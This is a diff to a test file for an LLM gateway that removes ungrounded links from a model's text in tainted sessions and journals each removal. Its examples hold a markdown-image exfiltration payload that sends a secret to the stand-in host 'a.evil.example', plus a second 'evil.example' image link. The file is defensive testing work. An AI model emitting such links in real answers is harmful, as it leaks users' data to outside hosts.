@@ -36,9 +36,10 @@ from starlette.requests import Request
 from starlette.responses import JSONResponse, Response, StreamingResponse
 from starlette.routing import Route
 
-from fak_core import Policy, ToolDecl
+from fak_core import GroundingStore, Kernel, Policy, ToolDecl
 from fak_core.gateway import GatewayState, UpstreamConfig, proxy_routes
 from fak_core.journal import Journal, read_rows
+from fak_core.nonblocking import is_nonblocking
 from tests.encoded_links import PUNCT, written_link
 
 from .inprocess import fresh_trace
@@ -157,9 +158,19 @@ def _gateway(state: GatewayState) -> Starlette:
     return Starlette(routes=proxy_routes(state, config))
 
 
+class WaitingStore(GroundingStore):
+    """The in-memory store declared as one that may wait (as a shared one does): the
+    proxies then police the text on a worker thread."""
+
+    __fak_nonblocking__ = False
+
+
 _STATE = make_state()
 _STATE.kernel.set_policy(POLICY)
 _APP = _gateway(_STATE)
+_WAITING = GatewayState(Kernel(POLICY, grounding=WaitingStore()))
+assert not is_nonblocking(_WAITING.kernel.grounding)
+_APPS = {False: _APP, True: _gateway(_WAITING)}
 
 
 def _messages(wire: str, tainted: bool) -> list[dict[str, Any]]:
@@ -219,6 +230,25 @@ async def client_text(app: Starlette, wire: str, stream: bool, tainted: bool) ->
 
 #: a marker: the host's labels with their dots bracketed
 MARK = r"\[link removed by fak: ungrounded destination (?:[a-z0-9-]|\[\.\])+\]"
+
+
+async def fak_record(app: Starlette, wire: str, stream: bool) -> dict[str, Any]:
+    """The ``fak`` record of a tainted turn, read from the raw answer."""
+    doc: dict[str, Any] = {"model": "m", "messages": _messages(wire, True), "max_tokens": 8}
+    if stream:
+        doc["stream"] = True
+    transport = httpx.ASGITransport(app=app)
+    async with httpx.AsyncClient(transport=transport, base_url="http://gw") as c:
+        path = "/v1/chat/completions" if wire == "openai" else "/v1/messages"
+        r = await c.post(path, json=doc, headers={"x-trace-id": fresh_trace("text-links")})
+    assert r.status_code == 200, r.text
+    if not stream:
+        return dict(r.json()["fak"])
+    events = [json.loads(ln[6:]) for ln in r.text.splitlines() if ln.startswith("data: {")]
+    (record,) = [e["fak"] for e in events if "fak" in e]
+    return dict(record)
+
+
 FILLER = ("Here", "is", "the", "summary:", "see", "and", "thanks.", "**done**", "(ok)")
 label = st.text(st.sampled_from("abcdefghijklmnopqrstuvwxyz\u00e9\u00fc"), min_size=1, max_size=5)
 
@@ -270,29 +300,32 @@ CASES = [(w, s) for w in ("openai", "anthropic") for s in (False, True)]
 
 @pytest.mark.fak_theorem("D10.8")
 @settings(max_examples=60, suppress_health_check=[HealthCheck.too_slow])
-@given(answers(), st.lists(st.integers(0, 400), max_size=40), st.sampled_from(CASES))
+@given(answers(), st.lists(st.integers(0, 400), max_size=40), st.sampled_from(CASES), st.booleans())
 @example(
     ("see ![x](https://a.evil.example/p.png?d=S0x1Q) ok ", "", ["S0x1Q"]),
     list(range(60)),
     ("openai", True),
+    False,
 ).via("every character boundary, OpenAI")
 @example(
     ("see ![x](https://a.evil.example/p.png?d=S0x1Q) ok ", "", ["S0x1Q"]),
     list(range(60)),
     ("anthropic", True),
+    True,
 ).via("every character boundary, Anthropic")
 def test_no_ungrounded_destination_in_the_models_text_reaches_the_client(
-    answer: tuple[str, str, list[str]], cuts: list[int], case: tuple[str, bool]
+    answer: tuple[str, str, list[str]], cuts: list[int], case: tuple[str, bool], waits: bool
 ) -> None:
     text, expected, secrets = answer
     wire, stream = case
     _ANSWER.update(text=text, cuts=cuts)
-    got = asyncio.run(client_text(_APP, wire, stream, tainted=True))
+    app = _APPS[waits]
+    got = asyncio.run(client_text(app, wire, stream, tainted=True))
     assert not [s for s in secrets if s in got], (text, got)
     if expected:
         assert re.fullmatch(expected, got), (text, got, cuts)
     # a clean session's text is the answer, byte for byte
-    assert asyncio.run(client_text(_APP, wire, stream, tainted=False)) == text
+    assert asyncio.run(client_text(app, wire, stream, tainted=False)) == text
 
 
 @pytest.mark.fak_theorem("D10.8")
@@ -320,6 +353,7 @@ def test_each_removal_is_journaled_and_the_setting_off_relays_the_text(
         asyncio.run(client_text(app, wire, stream, tainted=False))
         journal.sync()
         rows = [r for r in read_rows(tmp_path / "decisions.db") if r["event"] == "text_link"]
+        record = asyncio.run(fak_record(app, wire, stream))
     finally:
         journal.close()
     digests = {
@@ -327,6 +361,11 @@ def test_each_removal_is_journaled_and_the_setting_off_relays_the_text(
         for d in (evil, "https://x.evil.example/i.png")
     }
     assert "S1Q" not in got and GOOD in got, got
+    mark = "[link removed by fak: ungrounded destination {}]"
+    assert record["text_links"] == [
+        {"marker": mark.format(h), "by": "gateway-text"}
+        for h in ("evil[.]example", "x[.]evil[.]example")
+    ], record
     assert len(rows) == 2, rows
     assert {r["args_digest"] for r in rows} == digests, rows
     for r in rows:
